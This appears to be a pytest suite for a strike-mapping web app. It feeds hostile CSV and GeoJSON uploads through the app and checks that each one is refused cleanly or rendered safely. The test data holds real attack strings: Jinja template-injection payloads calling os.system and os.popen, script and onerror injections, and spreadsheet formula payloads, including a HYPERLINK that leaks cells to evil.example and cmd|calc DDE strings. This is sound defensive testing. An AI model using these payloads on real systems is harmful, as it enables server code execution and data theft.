"""Hostile uploads: every one ends as a clean map or a clear error, and none runs code or plants a formula.

The cases are generated here, not checked in. Each is read as the server reads
an upload (in a child held to the kernel's limits: strikes.intake.bounded),
within the child's budget, and, when it loads, drawn on every surface a user
can reach: the map, the
comparison map, the HTML snapshot, the CSV and the GeoJSON export. While
they are drawn, every Jinja template compiled is recorded, and no template's
source may hold any text from the upload: text that became template source
could run code on the server (the SSTI that branca's double compilation
allowed).
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from html import escape
from pathlib import Path
from typing import Any, Literal

import jinja2
import pandas as pd
import pytest

from strikes import export, intake
from strikes.core import compare, csvsafe
from strikes.core.dataname import DataName
from strikes.core.filters import Filters
from strikes.core.i18n import Lang
from strikes.intake import UploadError, bounded
from strikes.intake.ownexport import read_csv_export
from strikes.page import mapview
from strikes.page.assets import standalone_html
from strikes.page.elements import script_json

from ..factories import SMALL, make_events
from ..pages import readable

HEADER = [
    "event_id",
    "event_date",
    "workplace",
    "sector",
    "wave",
    "source",
    "source_url",
    "location",
    "latitude",
    "longitude",
    "notes",
    "size",
    "local_name",
    "action_type",
]
GOOD = [
    "e1",
    "2020-08-10",
    "Grodno Azot",
    "chemicals",
    "august",
    "Nasha Niva",
    "https://nashaniva.com/",
    "Grodno",
    "53.6758",
    "23.82887",
    "workers walked out",
    "300",
    "Гродна Азот",
    "strike",
]
SECOND = [
    "e2",
    "2020-10-26",
    "Naftan",
    "energy",
    "november",
    "Nasha Niva",
    "",
    "Novopolotsk",
    "55.52618",
    "28.59308",
    "a walkout",
    "",
    "",
    "strike",
]
TEXT_FIELDS = ("workplace", "sector", "wave", "source", "location", "notes", "size", "local_name", "action_type")
# A file the hostile payload's side effect would create, were it ever run.
SIDE_EFFECT = Path("/tmp/strikes-hostile-side-effect")
PAYLOADS = {
    "jinja-arithmetic": "{{ 7*7 }}",
    "jinja-raw": "{% raw %}",
    "jinja-comment": "Transport {#2 depot}",
    "jinja-globals": "{{ cycler.__init__.__globals__.os.system('touch " + str(SIDE_EFFECT) + "') }}",
    "jinja-lipsum": "{{ lipsum.__globals__.os.popen('id').read() }}",
    "jinja-block": "{% for x in range(3) %}loop{% endfor %}",
    "jinja-element-ref": "{{'alert'}}",
    "end-script": "</script><script>document.title='pwned'</script>",
    "html-comment": "<!--<script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
}
FORMULAS = {
    "formula-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "formula-fullwidth": "＝1+1",
}


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    data: bytes
    expect: str  # "map" or "error"
    says: str = ""  # for an error, words the message must hold


def csv_bytes(
    *rows: list[str],
    header: list[str] = HEADER,
    newline: str = "\n",
    delimiter: str = ",",
    quoting: Literal[0, 1, 2, 3] = csv.QUOTE_MINIMAL,
) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=newline, delimiter=delimiter, quoting=quoting)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def feature(row: list[str], geometry: object = "point") -> dict:
    properties = dict(zip(HEADER, row))
    lat, lon = properties.pop("latitude"), properties.pop("longitude")
    if geometry == "point":
        geometry = {"type": "Point", "coordinates": [float(lon), float(lat)]}
    return {"type": "Feature", "geometry": geometry, "properties": properties}


def geojson_text(*features: dict, **extra: object) -> str:
    return json.dumps({"type": "FeatureCollection", "features": list(features), **extra}, ensure_ascii=False)


def with_field(row: list[str], field: str, value: str) -> list[str]:
    changed = list(row)
    changed[HEADER.index(field)] = value
    return changed


def nested(depth: int) -> str:
    return '{"type": "FeatureCollection", "features": [], "x": ' + "[" * depth + "]" * depth + "}"


def cases() -> Iterator[Case]:
    # text payloads, in every text field, through both formats
    for key, payload in {**PAYLOADS, **FORMULAS}.items():
        for field in TEXT_FIELDS:
            if key.startswith("formula") and field == "wave":
                continue  # a wave is lower-cased; the sector and name cases cover formulas
            row = with_field(GOOD, field, payload)
            # quoted, as a spreadsheet quotes a cell holding a carriage return
            yield Case(f"csv-{key}-{field}", "h.csv", csv_bytes(row, SECOND, quoting=csv.QUOTE_ALL), "map")
        yield Case(
            f"geojson-{key}",
            "h.geojson",
            geojson_text(
                feature(with_field(with_field(GOOD, "workplace", payload), "source", payload)),
                feature(SECOND),
            ).encode(),
            "map",
        )
    yield Case("csv-payload-in-header", "h.csv", csv_bytes(GOOD, header=[*HEADER[:-1], "{{ 7*7 }}"]), "map")
    # encodings and byte-order marks
    text = csv_bytes(GOOD, SECOND).decode()
    for codec, bom in (
        ("utf-8", b""),
        ("utf-8", codecs.BOM_UTF8),
        ("utf-16-le", codecs.BOM_UTF16_LE),
        ("utf-16-be", codecs.BOM_UTF16_BE),
        ("utf-32-le", codecs.BOM_UTF32_LE),
        ("utf-32-be", codecs.BOM_UTF32_BE),
        ("cp1251", b""),
    ):
        yield Case(f"encoding-{codec}-{'bom' if bom else 'plain'}", "h.csv", bom + text.encode(codec), "map")
    yield Case("utf-16-without-bom", "h.csv", text.encode("utf-16-le"), "error", "NUL bytes")
    yield Case("utf-32-bom-but-garbage", "h.csv", codecs.BOM_UTF32_LE + b"\xff\xff\xff\xff", "error", "byte-order mark")
    yield Case("binary-png", "h.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "error", "")
    yield Case("bom-only", "h.csv", codecs.BOM_UTF8, "error", "empty")
    yield Case("whitespace-only", "h.csv", b"   \n\n  ", "error", "empty")
    # line endings
    for label, newline in (("lf", "\n"), ("crlf", "\r\n"), ("cr", "\r")):
        yield Case(f"line-endings-{label}", "h.csv", csv_bytes(GOOD, SECOND, newline=newline), "map")
    yield Case(
        "line-endings-mixed",
        "h.csv",
        csv_bytes(GOOD).rstrip(b"\n") + b"\r" + ",".join(SECOND).encode() + b"\r\n",
        "map",
    )
    yield Case("semicolons", "h.csv", csv_bytes(GOOD, SECOND, delimiter=";"), "map")
    # control characters and surrogates
    for char in ("\x00", "\x07", "\x1b", "\x7f"):
        yield Case(
            f"control-{ord(char):02x}",
            "h.csv",
            csv_bytes(with_field(GOOD, "workplace", f"Grodno{char}Azot")),
            "error",
            "",
        )
    for field in ("workplace", "wave"):
        surrogate = geojson_text(feature(GOOD)).replace(
            "Grodno Azot" if field == "workplace" else '"august"',
            "Grodno \\ud800 Azot" if field == "workplace" else '"aug\\udfffust"',
        )
        yield Case(f"surrogate-in-{field}", "h.geojson", surrogate.encode(), "error", "unpaired surrogate")
    yield Case("bidi-override", "h.csv", csv_bytes(with_field(GOOD, "workplace", "Grodno \u202eAzot")), "map")
    # huge and deep documents
    for depth in (30, 1_000, 100_000):
        yield Case(f"json-depth-{depth}", "h.geojson", nested(depth).encode(), "error", "nested")
    big = "9" * 5_000
    yield Case(
        "json-5000-digit-property", "h.geojson", geojson_text(feature(GOOD)).replace('"300"', big).encode(), "map"
    )
    yield Case(
        "json-5000-digit-coordinate",
        "h.geojson",
        geojson_text(feature(GOOD)).replace("53.6758", big).encode(),
        "error",
        "latitude",
    )
    short = ["event_id", "event_date", "workplace", "sector", "source", "location"]
    yield Case(
        "too-many-rows",
        "h.csv",
        csv_bytes(
            *([f"e{i}", "2020-08-10", "MTZ", "manufacturing", "s", "Minsk"] for i in range(intake.MAX_ROWS + 1)),
            header=short,
        ),
        "error",
        "more than the 200,000",
    )
    yield Case(
        "too-many-columns",
        "h.csv",
        csv_bytes(GOOD + [""] * 300, header=HEADER + [f"x{i}" for i in range(300)]),
        "error",
        "columns",
    )
    yield Case("too-large", "h.csv", csv_bytes(GOOD) + b" " * intake.MAX_UPLOAD_BYTES, "error", "upload limit")
    yield Case(
        "huge-cell",
        "h.csv",
        csv_bytes(with_field(GOOD, "notes", "x" * 2_000_000)),
        "error",
        "row 2, field notes: is 2,000,000 characters long, more than the 32,767 a cell may hold",
    )
    yield Case("largest-cell", "h.csv", csv_bytes(with_field(GOOD, "notes", "x" * 32_767)), "map")
    yield Case(
        "header-field-past-the-csv-limit",
        "h.csv",
        csv_bytes(GOOD, header=[*HEADER[:-1], "x" * 200_000]),
        "error",
        "line 1: a column name is longer than",
    )
    yield Case(
        "long-column-name",
        "h.csv",
        csv_bytes(GOOD, header=[*HEADER[:-1], "x" * 40_000]),
        "error",
        "the name of column 14 is 40,000 characters long",
    )
    wide = [feature(GOOD)] + [
        {"type": "Feature", "geometry": None, "properties": {f"k{n}_{i}": "1" for i in range(100)}}
        for n in range(2_000)
    ]
    yield Case(
        "geojson-columns-past-the-limit-in-later-features",
        "h.geojson",
        geojson_text(*wide).encode(),
        "error",
        "more than the 200 an upload may have",
    )
    # the map's own exports, checked like every other upload
    own = make_events(*SMALL)
    yield Case("own-csv-clean", "h.csv", export.to_csv(own), "map")
    yield Case("own-geojson-clean", "h.geojson", export.to_geojson_bytes(own), "map")
    broken = (
        (
            "javascript-link",
            {"source_url": "javascript:alert(1)"},
            "field source_url: must start with http:// or https:// (got 'javascript:alert(1)')",
        ),
        (
            "control-character",
            {"name": "Grodno\x01Azot"},
            "field name: holds a control character (U+0001), which is not text",
        ),
    )
    for shape, write in (("csv", export.to_csv), ("geojson", lambda e: json.dumps(export.to_geojson(e)).encode())):
        for what, change, message in broken:
            yield Case(f"own-{shape}-{what}", f"h.{shape}", write(own.assign(**change)), "error", message)
    yield Case(
        "own-geojson-surrogate",
        "h.geojson",
        json.dumps(export.to_geojson(own)).replace('"quote": "', '"quote": "\\ud800', 1).encode(),
        "error",
        "site 1, field quote: holds an unpaired surrogate (U+D800), which is not text",
    )
    # geometry
    for label, geometry in (
        ("linestring", {"type": "LineString", "coordinates": [[23.8, 53.6], [23.9, 53.7]]}),
        ("polygon", {"type": "Polygon", "coordinates": [[[23.8, 53.6], [23.9, 53.7], [23.8, 53.6]]]}),
        ("string", "POINT(23.8 53.6)"),
        ("one-coordinate", {"type": "Point", "coordinates": [23.8]}),
        ("nested-coordinates", {"type": "Point", "coordinates": [[23.8], [53.6]]}),
        ("text-coordinates", {"type": "Point", "coordinates": ["east", "north"]}),
    ):
        says = "not a number" if label == "text-coordinates" else "geometry"
        yield Case(f"geometry-{label}", "h.geojson", geojson_text(feature(GOOD, geometry)).encode(), "error", says)
    yield Case("geometry-null-with-town", "h.geojson", geojson_text(feature(GOOD, None)).encode(), "map")
    yield Case("json-array", "h.geojson", b"[1, 2, 3]", "error", "FeatureCollection")
    yield Case("json-null", "h.geojson", b"null", "error", "FeatureCollection")
    yield Case("json-broken", "h.geojson", b'{"type": "FeatureCollection", "features": [', "error", "not valid JSON")
    yield Case(
        "json-property-object",
        "h.geojson",
        geojson_text(feature(with_field(GOOD, "notes", "x"))).replace('"notes": "x"', '"notes": {"a": 1}').encode(),
        "error",
        "must be text or a number",
    )
    # numbers that are not
    for label, value in (("nan-text", "NaN"), ("inf-text", "inf"), ("minus-inf", "-Infinity")):
        yield Case(
            f"csv-latitude-{label}", "h.csv", csv_bytes(with_field(GOOD, "latitude", value)), "error", "latitude"
        )
    for literal in ("NaN", "Infinity", "-Infinity"):
        yield Case(
            f"json-latitude-{literal}",
            "h.geojson",
            geojson_text(feature(GOOD)).replace("53.6758", literal).encode(),
            "error",
            "latitude",
        )
    for label, field, value in (
        ("lat-95", "latitude", "95"),
        ("lat-minus-91", "latitude", "-91"),
        ("lon-200", "longitude", "200"),
    ):
        yield Case(f"out-of-range-{label}", "h.csv", csv_bytes(with_field(GOOD, field, value)), "error", field)
    yield Case("duplicate-ids", "h.csv", csv_bytes(GOOD, with_field(SECOND, "event_id", "e1")), "error", "duplicate id")
    yield Case("duplicate-columns", "h.csv", csv_bytes(GOOD, header=[*HEADER[:-1], "sector"]), "error", "appears twice")
    yield Case(
        "javascript-url",
        "h.csv",
        csv_bytes(with_field(GOOD, "source_url", "javascript:alert(1)")),
        "error",
        "must start with http",
    )


CASES = list(cases())


@contextmanager
def recording_templates() -> Iterator[list[str]]:
    """The source of every Jinja template compiled inside the block."""
    seen: list[str] = []
    original: Any = jinja2.Environment.compile  # overloaded: called with whatever it was given

    def recording(self: jinja2.Environment, source: object, *args: object, **kwargs: object) -> object:
        seen.append(str(source))
        return original(self, source, *args, **kwargs)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(jinja2.Environment, "compile", recording)
        yield seen


@pytest.fixture()
def compiled_templates() -> Iterator[list[str]]:
    """The source of every Jinja template compiled while the fixture is active."""
    with recording_templates() as seen:
        yield seen


def surfaces(events: pd.DataFrame) -> dict[str, Callable[[], bytes | str]]:
    waves = compare.wave_pair(events)
    return {
        "map": lambda: standalone_html(mapview.build_map(events, waves, lang=Lang("en")), lang=Lang("en")),
        "dual map": lambda: standalone_html(mapview.build_dual_map(events, waves, lang=Lang("en")), lang=Lang("en")),
        "html export": lambda: export.export("html", Filters(), events, lang=Lang("en"), name=DataName()),
        "csv export": lambda: export.export("csv", Filters(), events, lang=Lang("en"), name=DataName()),
        "geojson export": lambda: export.export("geojson", Filters(), events, lang=Lang("en"), name=DataName()),
    }


def formula_cells(data: bytes) -> list[str]:
    """Cells of a CSV that a spreadsheet would run as a formula: a formula start, and not a plain number."""
    return [
        cell
        for row in csv.reader(io.StringIO(data.decode("utf-8")))
        for cell in row
        if cell.startswith(csvsafe.FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
    ]


@dataclass
class Drawn:
    """Every surface drawn for some uploads at once, the templates compiled meanwhile, and what went wrong."""

    pages: dict[str, bytes | str]
    templates: list[str]
    side_effect: bool
    error: BaseException | None = None
    back: pd.DataFrame | None = None  # the CSV export read back


def draw(events: pd.DataFrame) -> Drawn:
    """Every surface of ``events``; an exception is kept, to be blamed on the upload that caused it."""
    SIDE_EFFECT.unlink(missing_ok=True)
    with recording_templates() as templates:
        try:
            pages = {name: make() for name, make in surfaces(events).items()}
            csv_export = pages["csv export"]
            back = read_csv_export(csv_export) if isinstance(csv_export, bytes) else None
        except Exception as error:  # reported by each case of the group, drawn alone
            return Drawn({}, list(templates), SIDE_EFFECT.exists(), error)
    return Drawn(pages, list(templates), SIDE_EFFECT.exists(), back=back)


def keyed(index: int, events: pd.DataFrame) -> pd.DataFrame:
    """One case's events with ids of their own, so many cases' events make one valid frame."""
    prefix = f"c{index}-"
    return events.assign(
        event_id=prefix + events["event_id"], site_id=prefix + events["site_id"], source_id=prefix + events["source_id"]
    )


@dataclass
class Sweep:
    """Each case read once; the loaded ones drawn together, a group of them per page."""

    read: dict[str, pd.DataFrame | BaseException]
    costs: dict[str, bounded.Cost | None]  # what each case's read cost its child, as its kernel counted
    rows: dict[str, pd.DataFrame]  # a loaded case's rows in its group's frame
    drawn: dict[str, Drawn]  # a loaded case's group's surfaces


@pytest.fixture(scope="module")
def sweep() -> Sweep:
    """Every case read as the server reads an upload, then the loaded ones drawn once per group, not once each.

    A group is the cases whose events compare the same two waves: the dual map draws only those two
    and a site in neither is left off the main map, so a case drawn in its group is drawn as it
    would be alone, beside the others' sites. A group that cannot be drawn is drawn case by case
    in the test, so an upload that breaks a surface is named by its own test.
    """
    read: dict[str, pd.DataFrame | BaseException] = {}
    costs: dict[str, bounded.Cost | None] = {}
    groups: dict[tuple[str, str], list[tuple[str, pd.DataFrame]]] = {}
    for index, case in enumerate(CASES):
        try:
            result, costs[case.name] = bounded.measure(bounded.ReadJob(case.filename), case.data, None)
        except Exception as error:  # a bug in the child: judged by the case's test
            read[case.name] = error
            continue
        if isinstance(result, BaseException):  # an UploadError or a ReadLimit
            read[case.name] = result
            continue
        events, _ = result
        read[case.name] = events
        groups.setdefault(compare.wave_pair(events), []).append((case.name, keyed(index, events)))
    rows: dict[str, pd.DataFrame] = {}
    drawn: dict[str, Drawn] = {}
    for waves, members in groups.items():
        together = pd.concat([events for _, events in members], ignore_index=True)
        assert compare.wave_pair(together) == waves
        group = draw(together)
        for name, events in members:
            rows[name] = together[together["event_id"].isin(events["event_id"])]
            drawn[name] = group
    return Sweep(read, costs, rows, drawn)


def test_the_suite_is_large_and_covers_both_formats() -> None:
    names = [case.name for case in CASES]
    assert len(names) == len(set(names)) and len(CASES) >= 60
    assert {Path(case.filename).suffix for case in CASES} == {".csv", ".geojson"}


def test_the_sweep_draws_many_cases_on_one_page(sweep: Sweep) -> None:
    """The point of drawing by group: far fewer pages than loaded cases."""
    groups = {id(drawn) for drawn in sweep.drawn.values()}
    assert len(sweep.drawn) >= 150 and len(groups) <= 15


@pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])
def test_hostile_upload_ends_as_a_clean_map_or_a_clear_error(case: Case, sweep: Sweep) -> None:
    """Read within the child's budget (less than 10 CPU seconds and 1 GB, as its kernel counted them), then
    refused with a message that names the file, or drawn on every surface with its text shown as text."""
    events = sweep.read[case.name]
    cost = sweep.costs.get(case.name)
    assert not isinstance(events, bounded.ReadLimit), str(events)
    assert cost is not None and cost.cpu_s < bounded.MAX_CPU_SECONDS and cost.peak_mb < 1024, cost
    if isinstance(events, UploadError):
        message = str(events)
        assert case.expect == "error", f"refused a file that should load: {message}"
        assert message.startswith(case.filename) and case.says in message
        assert "Traceback" not in message
        return
    if isinstance(events, BaseException):
        raise events
    assert case.expect == "map", "loaded a file that should be refused"
    drawn = sweep.drawn[case.name]
    if drawn.error is not None or drawn.side_effect:  # the group broke: drawn alone, this case says if it is why
        alone = draw(events)
        if alone.error is not None:
            raise alone.error
        assert not alone.side_effect, "the upload's code ran"
        raise AssertionError(f"drawn alone this upload is clean, but not in its group: {drawn.error!r}")
    user_text = {
        str(v)
        for column in ("name", "sector", "wave", "source_title", "quote", "town", "size", "local_name", "action_type")
        for v in events[column].dropna()
    }
    markers = [text for text in user_text if any(mark in text for mark in ("{{", "{%", "{#", "</", "<!--", "cmd|"))]
    for source in drawn.templates:
        assert not any(text in source for text in markers), "user text became template source"
    assert not SIDE_EFFECT.exists()
    for name in ("map", "dual map", "html export"):
        surface = drawn.pages[name]
        page = surface if isinstance(surface, str) else surface.decode()
        for text in markers:
            assert text not in page or not any(tag in text for tag in ("<", ">")), f"raw markup on the {name}"
        assert "pwned'</script>" not in page and "<img src=x" not in page
    csv_export = drawn.pages["csv export"]
    assert isinstance(csv_export, bytes)
    assert formula_cells(csv_export) == [] and drawn.back is not None
    back = drawn.back
    mine = back["event_id"].isin(sweep.rows[case.name]["event_id"])
    assert back.loc[mine, "name"].tolist() == events["name"].tolist()
    json.loads(drawn.pages["geojson export"])


@pytest.mark.parametrize("payload", ["{{ 7*7 }}", "{% raw %}", "Transport {#2 depot}", "{{'alert'}}"])
def test_template_text_in_every_dataset_field_is_shown_literally(payload: str, compiled_templates: list[str]) -> None:
    """A payload in every text column and in the wave names reaches every page as itself."""
    fields = (
        "name",
        "local_name",
        "sector",
        "town",
        "oblast",
        "site_notes",
        "size",
        "source_title",
        "quote",
        "notes",
        "action_type",
    )
    rows = [{**row, **{field: f"{payload} {field}" for field in fields}} for row in SMALL]
    rows = [{**row, "wave": f"{row['wave']} {payload}"} for row in rows]
    events = make_events(*rows)
    compiled_templates.clear()
    for name, make in surfaces(events).items():
        drawn = make()
        page = readable(drawn if isinstance(drawn, str) else drawn.decode())
        if name != "csv export":  # the CSV keeps its own quoting; read_csv_export round-trips it below
            for field in ("name", "sector", "wave"):
                literal = f"{payload} {field}" if field != "wave" else f"august {payload}"
                # as data for textContent, or escaped as HTML (in the packed sites), and then as JSON
                shown = {script_json(literal)[1:-1], script_json(escape(literal))[1:-1], literal, escape(literal)}
                assert any(form in page for form in shown), (name, field)
        assert "{{ 7*7 }}" not in payload or ">49<" not in page
    assert not any(payload in source for source in compiled_templates)
    back = read_csv_export(export.export("csv", Filters(), events, lang=Lang("en"), name=DataName()))
    assert set(back["sector"]) == {f"{payload} sector"}


def test_csv_export_neutralises_every_formula_and_round_trips() -> None:
    rows = [
        {**row, "name": formula, "quote": formula, "size": "-12"}
        for row, formula in zip(SMALL * 2, list(FORMULAS.values()) + ["'quoted", "plain"] * 4)
    ]
    rows = [{**row, "event_id": f"{row['event_id']}-{i}"} for i, row in enumerate(rows)]
    events = make_events(*rows)
    data = export.to_csv(events)
    assert formula_cells(data) == []
    cells = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")' in cells and "'-2+3" in cells
    assert "-12" in cells and "''quoted" in cells  # a number stays a number; an apostrophe is doubled
    back = read_csv_export(data)
    pd.testing.assert_frame_equal(back, events.reset_index(drop=True), check_dtype=False)
